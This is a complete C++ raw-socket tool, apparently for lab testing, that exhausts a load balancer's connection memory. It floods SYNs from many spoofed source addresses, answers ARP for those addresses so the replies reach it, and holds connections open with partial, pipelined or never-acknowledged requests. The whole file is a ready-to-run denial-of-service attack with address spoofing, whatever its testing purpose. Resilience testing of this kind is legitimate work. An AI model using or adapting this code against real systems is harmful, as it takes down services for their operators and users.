// A client that fills a balancer's memory and needs none of its own:
//   squat INTERFACE OUR-MAC THEIR-MAC VIP PORT SECONDS MBIT FIRST-SOURCE SOURCES WHAT
// It opens connections from SOURCES addresses, FIRST-SOURCE and those behind it, as fast as MBIT
// million bits a second allow, and never closes or acknowledges more than WHAT says:
//   octet      one octet of a request
//   pipeline   eight requests at once; their answers are never acknowledged
//   queue      twelve requests at once; then a bare ACK now and then, which says nothing new
//   idle       the handshake only
//   invent     SYNs only, each from another address; SOURCES is how many, as far as that goes
// After SECONDS it is silent for ever: it prints what it did and ends, and the kernel, which has
// none of these addresses, answers nothing. While it works it answers ARP for its addresses.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include "raw.h"

namespace {

using raw::checksum;
using raw::sum;
using Clock = std::chrono::steady_clock;

struct Squat {
  int socket = -1;
  std::array<uint8_t, 6> ours{}, theirs{};
  uint32_t vip = 0, first = 0, sources = 1;
  uint16_t port = 0;
  std::string what, payload;
  double allowed = 0;  // bytes
  unsigned long bytes = 0, syns = 0, opened = 0;
  struct Open {
    uint32_t source;
    uint16_t port;
    uint32_t seq, ack;
  };
  std::vector<Open> open;

  void send(uint32_t source, uint16_t from, uint32_t seq, uint32_t ack, uint8_t flags,
            const std::string& data) {
    std::array<uint8_t, 1600> f{};
    std::memcpy(f.data(), theirs.data(), 6);
    std::memcpy(f.data() + 6, ours.data(), 6);
    f[12] = 8;
    iphdr ip{};
    ip.version = 4;
    ip.ihl = 5;
    const size_t options = (flags & TH_SYN) != 0 ? 4 : 0;
    const size_t tcp_size = sizeof(tcphdr) + options + data.size();
    ip.tot_len = htons(static_cast<uint16_t>(sizeof ip + tcp_size));
    ip.ttl = 64;
    ip.protocol = IPPROTO_TCP;
    ip.saddr = htonl(source);
    ip.daddr = vip;
    ip.check = checksum(sum(&ip, sizeof ip));
    std::memcpy(f.data() + 14, &ip, sizeof ip);
    tcphdr t{};
    t.source = htons(from);
    t.dest = htons(port);
    t.seq = htonl(seq);
    t.ack_seq = htonl(ack);
    t.doff = static_cast<uint16_t>((sizeof t + options) / 4) & 15;
    t.syn = (flags & TH_SYN) != 0;
    t.ack = (flags & TH_ACK) != 0;
    t.psh = !data.empty();
    t.window = htons(64240);
    uint8_t* at = f.data() + 14 + sizeof ip;
    std::memcpy(at, &t, sizeof t);
    if (options != 0) std::memcpy(at + sizeof t, "\x02\x04\x05\xb4", 4);
    std::memcpy(at + sizeof t + options, data.data(), data.size());
    const uint16_t c = checksum(
        sum(at, tcp_size, sum(&ip.saddr, 8, static_cast<uint32_t>(IPPROTO_TCP + tcp_size))));
    std::memcpy(at + 16, &c, 2);
    const size_t size = 14 + sizeof ip + tcp_size;
    ::send(socket, f.data(), size, 0);
    bytes += std::max<size_t>(size, 60) + 24;  // as on a wire, with preamble, check and gap
  }

  bool mine(uint32_t address) const { return address - first < sources; }

  // What it gets: SYN-ACKs, and questions for its addresses.
  void hear(const uint8_t* f, size_t size) {
    if (size >= 42 && f[12] == 8 && f[13] == 6 && f[21] == 1) {
      uint32_t target;
      std::memcpy(&target, f + 38, 4);
      if (!mine(ntohl(target))) return;
      std::array<uint8_t, 42> a{};
      std::memcpy(a.data(), f + 22, 6);
      std::memcpy(a.data() + 6, ours.data(), 6);
      std::memcpy(a.data() + 12, f + 12, 10);
      a[21] = 2;
      std::memcpy(a.data() + 22, ours.data(), 6);
      std::memcpy(a.data() + 28, &target, 4);
      std::memcpy(a.data() + 32, f + 22, 10);
      ::send(socket, a.data(), a.size(), 0);
      return;
    }
    if (what == "invent" || size < 54 || f[12] != 8 || f[13] != 0 || f[23] != IPPROTO_TCP) return;
    iphdr ip;
    tcphdr t;
    std::memcpy(&ip, f + 14, sizeof ip);
    std::memcpy(&t, f + 34, sizeof t);
    if (ip.saddr != vip || !mine(ntohl(ip.daddr)) || !t.syn || !t.ack) return;
    const uint32_t source = ntohl(ip.daddr), seq = ntohl(t.ack_seq), ack = ntohl(t.seq) + 1;
    send(source, ntohs(t.dest), seq, ack, TH_ACK, payload);
    ++opened;
    if (what == "queue" && open.size() < 200000)
      open.push_back({source, ntohs(t.dest), seq + static_cast<uint32_t>(payload.size()), ack});
  }
};

}  // namespace

int main(int argc, char** argv) {
  if (argc != 11) return 2;
  Squat s;
  s.socket = raw::open(argv[1], SOCK_RAW | SOCK_NONBLOCK, ETH_P_ALL);
  if (s.socket < 0) return 1;
  const int buffer = 8 << 20;
  setsockopt(s.socket, SOL_SOCKET, SO_RCVBUFFORCE, &buffer, sizeof buffer);
  raw::mac(argv[2], s.ours.data());
  raw::mac(argv[3], s.theirs.data());
  in_addr address{};
  if (inet_pton(AF_INET, argv[4], &s.vip) != 1 || inet_pton(AF_INET, argv[8], &address) != 1)
    return 2;
  s.first = ntohl(address.s_addr);
  s.port = static_cast<uint16_t>(std::stoi(argv[5]));
  s.sources = static_cast<uint32_t>(std::stoul(argv[9]));
  s.what = argv[10];
  const std::string request = "GET / HTTP/1.1\r\nHost: lab\r\n\r\n";
  if (s.what == "octet") s.payload = "G";
  const int requests = s.what == "pipeline" ? 8 : s.what == "queue" ? 12 : 0;
  for (int i = 0; i < requests; ++i) s.payload += request;

  const double rate = std::stod(argv[7]) * 1e6 / 8;
  const auto start = Clock::now();
  const double seconds = std::stod(argv[6]);
  uint32_t next = 0;
  size_t again = 0;
  std::array<uint8_t, 2048> f;
  for (;;) {
    const double now = std::chrono::duration<double>(Clock::now() - start).count();
    if (now >= seconds) break;
    for (int i = 0; i < 256; ++i) {
      sockaddr_ll from{};
      socklen_t length = sizeof from;
      const ssize_t n =
          recvfrom(s.socket, f.data(), f.size(), 0, reinterpret_cast<sockaddr*>(&from), &length);
      if (n <= 0) break;
      if (from.sll_pkttype != PACKET_OUTGOING) s.hear(f.data(), static_cast<size_t>(n));
    }
    for (int i = 0; i < 32 && static_cast<double>(s.bytes) < now * rate; ++i) {
      // Of a queue every fourth frame keeps one alive.
      if (!s.open.empty() && i % 4 == 3) {
        const Squat::Open& o = s.open[again++ % s.open.size()];
        s.send(o.source, o.port, o.seq, o.ack, TH_ACK, "");
        continue;
      }
      const uint32_t source = s.first + next % s.sources;
      const auto port = static_cast<uint16_t>(1024 + next / s.sources % 64000);
      s.send(source, port, 1000 + next, 0, TH_SYN, "");
      ++s.syns;
      ++next;
    }
    timespec rest{0, 200000};
    nanosleep(&rest, nullptr);
  }
  printf("{\"syns\": %lu, \"opened\": %lu, \"bytes\": %lu}\n", s.syns, s.opened, s.bytes);
}
